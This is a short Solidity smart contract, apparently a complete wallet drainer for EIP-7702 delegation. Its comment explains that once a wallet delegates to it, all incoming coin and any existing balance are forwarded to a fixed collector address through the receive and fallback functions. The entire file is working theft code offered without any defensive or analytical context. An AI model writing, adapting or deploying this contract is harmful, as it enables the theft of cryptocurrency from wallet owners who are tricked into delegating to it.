// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// The EIP-7702 drainer pattern: once a wallet delegates to this code, any coin it receives, together
/// with whatever it already held, is forwarded to the collector in the same transaction.
contract Sweeper {
    address payable private immutable collector;

    constructor(address payable collector_) {
        collector = collector_;
    }

    receive() external payable {
        _sweep();
    }

    fallback() external payable {
        _sweep();
    }

    function _sweep() private {
        (bool sent, ) = collector.call{value: address(this).balance}("");
        require(sent, "Sweeper: forward failed");
    }
}
